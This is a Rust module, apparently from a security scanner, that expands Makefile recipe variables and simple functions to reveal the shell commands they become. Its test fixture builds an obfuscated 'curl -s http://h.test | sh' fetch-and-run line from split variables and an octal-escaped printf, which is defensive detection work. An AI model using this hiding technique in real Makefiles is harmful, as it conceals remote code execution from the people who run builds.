//! Recipes of a Makefile with their variables written out: `$(C) -s $(U) | $(S)` is whatever the lines above say.

use std::collections::HashMap;

use crate::context::{Form, Language, Unit};
use crate::decode::unescape;
use crate::text::View;

/// Most variables of one Makefile that are followed.
const VARIABLES: usize = 200;

/// Longest line that is written out, in bytes.
const LINE_BYTES: usize = 4_000;

/// Most references that are followed in one Makefile.
const STEPS: usize = 4_000;

/// Variables inside variables.
const DEPTH: usize = 6;

/// The recipes in which a variable stands, as the commands that they become.
pub(super) fn scan(unit: &Unit) -> Vec<Unit> {
    let text = unit.view.text();
    if !(text.contains("$(") && text.contains("\n\t")) {
        return Vec::new();
    }
    let mut expansion = Expansion {
        variables: variables(text),
        steps: 0,
    };
    let mut found = Vec::new();
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let recipe = line
            .strip_prefix('\t')
            .filter(|line| line.len() <= LINE_BYTES);
        if let Some(recipe) = recipe.filter(|recipe| recipe.contains("$(")) {
            let command = expansion.expand(recipe.trim_start_matches(['@', '-', ' ']), DEPTH);
            let source = unit.view.source_of(at);
            let view = View::pinned(command, source);
            found.push(unit.inner(view, Form::Code(Language::Shell), at));
        }
        at += line.len();
        if found.len() >= VARIABLES {
            break;
        }
    }
    found
}

/// `NAME := value`, with any of the ways to assign.
fn variables(text: &str) -> HashMap<&str, &str> {
    text.lines()
        .filter(|line| !line.starts_with(['\t', ' ', '#']) && line.len() <= LINE_BYTES)
        .filter_map(|line| {
            let (name, value) = line.split_once('=')?;
            let name = name.trim_end_matches([':', '?', '+']).trim();
            let is_name = !name.is_empty()
                && name
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || b"_.-".contains(&byte));
            is_name.then_some((name, value.trim()))
        })
        .take(VARIABLES)
        .collect()
}

/// Writes variables out, with a count of what that takes.
struct Expansion<'t> {
    variables: HashMap<&'t str, &'t str>,
    steps: usize,
}

impl Expansion<'_> {
    /// A text with its variables and the functions that only change texts worked out; what is not known stays.
    fn expand(&mut self, text: &str, depth: usize) -> String {
        let mut whole = String::new();
        let mut rest = text;
        while let Some(at) = rest.find('$') {
            self.steps += 1;
            if whole.len() > LINE_BYTES || self.steps > STEPS {
                return whole;
            }
            let (before, after) = rest.split_at(at);
            whole.push_str(before);
            let Some((inside, behind)) = reference(after) else {
                // `$$` is the shell's own sign.
                let is_escaped = after.starts_with("$$");
                whole.push('$');
                rest = after
                    .get(if is_escaped { 2 } else { 1 }..)
                    .unwrap_or_default();
                continue;
            };
            match self.worked_out(inside, depth) {
                Some(value) => whole.push_str(&value),
                None => whole.extend(["$(", inside, ")"]),
            }
            rest = behind;
        }
        whole.push_str(rest);
        whole
    }

    fn worked_out(&mut self, inside: &str, depth: usize) -> Option<String> {
        let depth = depth.checked_sub(1)?;
        if let Some(value) = self.variables.get(inside.trim()).copied() {
            return Some(self.expand(value, depth));
        }
        let (function, arguments) = inside.trim().split_once(' ')?;
        let arguments = self.expand(arguments, depth);
        match function {
            "shell" => printed(&arguments),
            "strip" => Some(arguments.trim().to_owned()),
            "subst" => {
                let mut parts = arguments.splitn(3, ',');
                let (from, to, text) = (parts.next()?, parts.next()?, parts.next()?);
                (!from.is_empty()).then(|| text.replace(from, to))
            }
            _ => None,
        }
    }
}

/// What stands in `$(…)` or `${…}` at the start of a text, and what comes after.
fn reference(text: &str) -> Option<(&str, &str)> {
    let closing = match text.as_bytes().get(1)? {
        b'(' => b')',
        b'{' => b'}',
        _ => return None,
    };
    let opening = *text.as_bytes().get(1)?;
    let mut depth = 0_usize;
    let end = text.bytes().position(|byte| {
        if byte == opening {
            depth += 1;
        } else if byte == closing {
            depth -= 1;
        }
        byte == closing && depth == 0
    })?;
    Some((text.get(2..end)?, text.get(end + 1..)?))
}

/// What `printf` or `echo` with one text prints.
fn printed(command: &str) -> Option<String> {
    let command = command.trim();
    let text = command
        .strip_prefix("printf ")
        .or_else(|| command.strip_prefix("echo -e "))
        .or_else(|| command.strip_prefix("echo -n "))
        .or_else(|| command.strip_prefix("echo "))?
        .trim()
        .trim_matches(['\'', '"']);
    let is_plain = !text.contains(['|', ';', '&', '`', '$']);
    is_plain.then(|| unescape(text).unwrap_or_else(|| text.to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn expanded(text: &str, command: &str) -> String {
        let mut expansion = Expansion {
            variables: variables(text),
            steps: 0,
        };
        expansion.expand(command, DEPTH)
    }

    #[test]
    fn variables_and_functions_are_written_out() {
        let text = "A = cu\nB := $(A)rl\nC ?= $(shell printf '\\163\\150')\nU := $(subst _,/,http:__h.test)\n";
        assert_eq!(
            expanded(text, "$(B) -s ${U} | $(C) > $$HOME $(D)"),
            "curl -s http://h.test | sh > $HOME $(D)"
        );
    }

    #[test]
    fn what_names_itself_ends() {
        assert!(expanded("A = $(A)x\n", "$(A)").len() < 100);
        let wide = "$(A)".repeat(900);
        let text = format!("A = {wide}\n");
        assert!(expanded(&text, &wide).len() <= LINE_BYTES * 2);
    }
}
